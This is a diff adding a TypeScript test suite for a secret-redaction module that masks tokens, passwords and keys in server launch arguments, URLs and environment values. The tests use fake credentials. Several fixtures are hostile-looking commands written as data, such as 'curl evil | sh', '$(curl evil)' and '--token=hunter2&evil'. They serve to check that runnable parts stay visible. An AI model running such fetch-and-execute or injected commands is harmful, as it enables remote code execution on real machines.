@@ -1,0 +1,249 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import fc from 'fast-check';
+import {
+  secretsInArguments,
+  secretsInText,
+  secretValues,
+} from '../../../../src/domain/secrets/redact.ts';
+import { isSecretName } from '../../../../src/domain/secrets/secretNames.ts';
+import { argumentsAsShown, textAsShown } from '../../../../src/domain/secrets/shownTexts.ts';
+import { commandLine } from '../../../../src/domain/servers/launch.ts';
+import { expandLaunch } from '../../../../src/domain/settings/expandLaunch.ts';
+import { fieldsOf, httpLaunch, stdioLaunch } from '../../../support/launches.ts';
+
+const gitHub = `ghp_${'a1'.repeat(18)}`;
+const openAi = `sk-proj-${'b2'.repeat(12)}`;
+
+describe('a name', () => {
+  it('tells a secret by more than the usual words', () => {
+    const secrets = [
+      'JWT',
+      'SESSION_JWT',
+      'licenseKey',
+      'LICENCE_KEY',
+      'storageAccountKey',
+      'sig',
+      'WEBHOOK_SIG',
+      'signature',
+      'DB_CONNECTION_STRING',
+      'connectionString',
+      'CONN_STR',
+      'AZURE_SAS',
+    ];
+    const plain = [
+      'MONKEY',
+      'SIGNAL',
+      'DESIGN',
+      'SASS_PATH',
+      'connectionStrings2Use',
+      'MASTERKEYBOARD',
+      'SIGNATURES_DIR',
+    ];
+    assert.deepEqual([...secrets, ...plain].filter(isSecretName), secrets);
+  });
+});
+
+describe('a text as it is shown', () => {
+  it('has no secret that is named, or looks like the key of a service', () => {
+    assert.deepEqual(
+      [
+        ['--api-key', openAi, '--verbose', 'x'],
+        ['--token=hunter2', '--region=north'],
+        ['--token=${env:GITHUB}', '--password', '${input:pw}'],
+        ['--header', 'Authorization: Bearer hunter2'],
+        ['-e', 'DB_PASSWORD=hunter2'],
+        ['postgres://me:hunter2@db/x', 'ssh://git@example.com/x'],
+        [gitHub, `--x=${gitHub}`],
+        ['-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY----- x'],
+      ].map(args => argumentsAsShown('files', args)),
+      [
+        ['--api-key', '…[32]', '--verbose', 'x'],
+        ['--token=…[7]', '--region=north'],
+        ['--token=${env:GITHUB}', '--password', '${input:pw}'],
+        ['--header', 'Authorization: Bearer …[7]'],
+        ['-e', 'DB_PASSWORD=…[7]'],
+        ['postgres://me:…[7]@db/x', 'ssh://git@example.com/x'],
+        ['…[40]', '--x=…[40]'],
+        ['…[65] x'],
+      ],
+    );
+  });
+
+  it('shows all that may be run, whatever name stands before it', () => {
+    const shown = [
+      ['-c', 'TOKEN=hunter2; curl evil | sh'],
+      ['-c', 'TOKEN=$(curl evil)'],
+      ['-e', 'token=require("evil").run(1)'],
+      ['/c', '--token=hunter2&evil'],
+      ['-Xtoken', 'evil.py'],
+      ['--auth', './evil', '--auth-url', 'https://me:hunter2@evil.example.com/'],
+      ['--credentials=/proj/evil', '--no-auth', 'evil'],
+      ['--token', '@evil/server'],
+      ['--auth', 'none', '--no-token', 'x'],
+    ].map(args => argumentsAsShown('files', args));
+    assert.deepEqual(shown, [
+      ['-c', 'TOKEN=…[7]; curl evil | sh'],
+      ['-c', 'TOKEN=$(curl evil)'],
+      ['-e', 'token=…[7]("evil").run(1)'],
+      ['/c', '--token=…[7]&evil'],
+      ['-Xtoken', 'evil.py'],
+      ['--auth', './evil', '--auth-url', 'https://me:…[7]@evil.example.com/'],
+      ['--credentials=/proj/evil', '--no-auth', 'evil'],
+      ['--token', '@evil/server'],
+      ['--auth', 'none', '--no-token', 'x'],
+    ]);
+  });
+
+  it('is what it is when it is shown once more', () => {
+    const word = fc.constantFrom(
+      'token',
+      '=',
+      ':',
+      ' ',
+      ';',
+      '"',
+      '//',
+      '@',
+      'abc',
+      '-----BEGIN ',
+      '$(',
+      '&',
+      '${x}',
+      openAi,
+    );
+    fc.assert(
+      fc.property(fc.array(word, { maxLength: 12 }), words => {
+        const once = textAsShown(words.join(''));
+        assert.equal(textAsShown(once), once);
+      }),
+    );
+  });
+});
+
+describe('a secret in an odd place', () => {
+  const shown = (...args: readonly string[]) => argumentsAsShown('files', args).join(' ');
+
+  it('is hidden whole where no shell reads the text', () => {
+    assert.equal(shown('--password', 'correct horse battery'), '--password …[21]');
+    assert.equal(shown('--password=p@ss;word&123(x'), '--password=…[15]');
+    assert.equal(shown('--secret-key', `/x7K${'Ab3'.repeat(12)}`), '--secret-key …[40]');
+    assert.equal(shown('--password', 'Summer.Rain'), '--password …[11]');
+  });
+
+  it('is hidden behind others, in the place of a user, and in what is fetched', () => {
+    assert.equal(
+      shown('db.host=h,db.user=x,db.password=hunter2'),
+      'db.host=h,db.user=x,db.password=…[7]',
+    );
+    assert.equal(shown('https://h/#access_token=hunter2'), 'https://h/#access_token=…[7]');
+    assert.equal(shown('--header=X-Api-Key:hunter2'), '--header=X-Api-Key:…[7]');
+    const token = '0123456789abcdef0123456789abcdef';
+    assert.equal(shown(`https://${token}:@h/`), 'https://…[32]:@h/');
+    assert.equal(
+      argumentsAsShown('uvx', ['--from', `git+https://x-access-token:${gitHub}@h/o`, 'tool']).join(
+        ' ',
+      ),
+      '--from git+https://…[14]:…[40]@h/o tool',
+    );
+    assert.equal(
+      argumentsAsShown('npx', ['--//npm.example/:_authToken=hunter2', 'pkg']).join(' '),
+      '--//npm.example/:_authToken=…[7] pkg',
+    );
+  });
+
+  it('costs no more than the text is worth, however many there are', () => {
+    const text = `TOKEN=hunter2${'|,TOKEN=hunter2'.repeat(5000)}`;
+    assert.doesNotMatch(argumentsAsShown('sh', ['-c', text]).join(' '), /hunter2/);
+  });
+});
+
+describe('what is to be hidden of a launch', () => {
+  it('is found where no variable stands, in whichever of its texts', () => {
+    const expansion = expandLaunch(
+      stdioLaunch({
+        args: [
+          '--token=${env:GH}',
+          '--api-key',
+          openAi,
+          '--dir',
+          '${firstRoot}',
+          '--auth-dir=/proj',
+        ],
+        env: { DATABASE_URL: 'postgres://me:p%40ss@db/x', REGION: 'north' },
+      }),
+      { env: { GH: 'hunter2' }, inputs: new Map(), roots: ['/proj'] },
+    );
+    assert.ok(expansion.ok);
+    assert.deepEqual([...expansion.secrets].sort(), ['hunter2', 'p%40ss', 'p@ss', openAi].sort());
+  });
+
+  it('is found in the path of a URL', () => {
+    const launch = httpLaunch(`https://example.com/${openAi}/mcp`, { 'X-Team': `team ${gitHub}` });
+    const expansion = expandLaunch(launch, { env: {}, inputs: new Map(), roots: [] });
+    assert.ok(expansion.ok);
+    assert.deepEqual([...expansion.secrets], [gitHub, openAi]);
+    assert.equal(commandLine(launch), 'https://example.com/…[32]/mcp');
+  });
+
+  it('is the whole of it and each part that is not shown, and no place', () => {
+    assert.deepEqual(secretsInArguments('files', ['--password', 'first second']), [
+      'first',
+      'first second',
+    ]);
+    assert.deepEqual(secretsInText('TOKEN=first; PASS=second'), [
+      'first',
+      'second',
+      'first; PASS=second',
+    ]);
+    assert.deepEqual(
+      secretsInArguments('files', ['--credentials', './creds', '--auth', 'https://e.com/']),
+      [],
+    );
+    assert.deepEqual(secretValues({ A: 'b', URL: `x?sig=hunter2` }), ['hunter2']);
+    assert.deepEqual(secretValues({ https_proxy: 'me:hunter2@proxy:8080' }), ['hunter2']);
+    assert.deepEqual(secretValues({ HTTP_PROXY: 'proxy:8080' }), []);
+  });
+});
+
+describe('the fields of a server with secrets in its texts', () => {
+  it('hold none of them, in clear or in a part', () => {
+    const fields = fieldsOf(
+      stdioLaunch({
+        args: ['--token=hunter2', '--api-key', 'hunter2', 'x'],
+        env: { URL: 'postgres://me:hunter2@db/x', TOKEN: 'hunter2 hunter3' },
+      }),
+    );
+    assert.deepEqual(fields, {
+      origin: 'user',
+      transport: 'stdio',
+      command: 'files',
+      args: ['--token=…[7]', '--api-key', '…[7]', 'x'],
+      cwd: '',
+      env: ['TOKEN=…[15]', 'URL=postgres://me:…[7]@db/x'],
+      sealed: fields['sealed'] ?? [],
+    });
+    const places = [fields['sealed'] ?? []].flat().map(seal => seal.replace(/ [0-9a-f]{64}$/, ''));
+    assert.deepEqual(places, ['args[0]', 'args[2]', 'env.TOKEN', 'env.URL']);
+  });
+
+  it('never hide a package that is fetched and run, nor a host, whatever stands before it', () => {
+    const shown = (line: string) => {
+      const [command = '', ...args] = line.split(' ');
+      return argumentsAsShown(command, args).join(' ');
+    };
+    for (const args of [
+      'npx -y --init-private evil-pkg',
+      `npx ${openAi}`,
+      `uvx --from ${openAi} tool`,
+      `docker run --rm ${gitHub}`,
+    ]) {
+      assert.equal(`${args.split(' ')[0]} ${shown(args)}`, args);
+    }
+    assert.equal(shown('npx pkg --token abc'), 'pkg --token …[3]');
+    assert.equal(
+      shown('files --auth-server id.example.com:8080'),
+      '--auth-server id.example.com:8080',
+    );
+  });
+});
